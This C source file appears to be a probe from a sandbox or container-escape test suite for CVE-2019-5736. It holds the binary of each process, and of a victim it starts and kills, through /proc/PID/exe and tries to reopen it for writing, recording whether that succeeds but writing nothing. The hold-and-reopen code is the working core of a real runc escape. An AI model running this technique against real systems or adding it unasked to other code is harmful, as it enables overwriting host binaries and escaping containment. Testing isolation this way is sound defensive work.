/* attack_exe [VICTIM]: the attack on the program that a launcher runs from (CVE-2019-5736). Holds the file of every
 * process through /proc/PID/exe and tries to open it for writing, at once and again after the process has become
 * another program; with VICTIM it starts that itself, ends it, and does the same to it. Writes nothing. */
#include "attempt.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int reopen(int held)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	return open(path, O_WRONLY | O_CLOEXEC);
}

static int hold(const char *pid)
{
	char path[300];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return open(path, O_PATH | O_CLOEXEC);
}

static int is_file(int held, const char *path)
{
	struct stat one, other;

	return fstat(held, &one) == 0 && stat(path, &other) == 0 && one.st_ino == other.st_ino && one.st_dev == other.st_dev;
}

static void attack_running(const char *pid)
{
	char name[300];
	int held = hold(pid);

	snprintf(name, sizeof(name), "hold-%s", pid);
	if (!attempt(name, held))
		return;
	snprintf(name, sizeof(name), "write-%s", pid);
	attempt(name, reopen(held));
	close(held);
}

static void attack_ended(char *victim)
{
	char pid[16];
	int held = -1, status;
	pid_t child = fork();

	if (child == 0) {
		execl(victim, victim, NULL);
		_exit(1);
	}
	snprintf(pid, sizeof(pid), "%d", child);
	do {
		if (held >= 0)
			close(held);
		held = hold(pid);
	} while (held >= 0 && !is_file(held, victim)); /* until then it is this program, which runs on */
	kill(child, SIGKILL);
	waitpid(child, &status, 0);
	attempt("write-ended", reopen(held));
}

int main(int argc, char **argv)
{
	DIR *processes = opendir("/proc");
	struct dirent *entry;

	if (argc > 1) {
		attack_ended(argv[1]);
		return 0;
	}
	attack_running("self");
	while (processes && (entry = readdir(processes)))
		if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
			attack_running(entry->d_name);
	return 0;
}
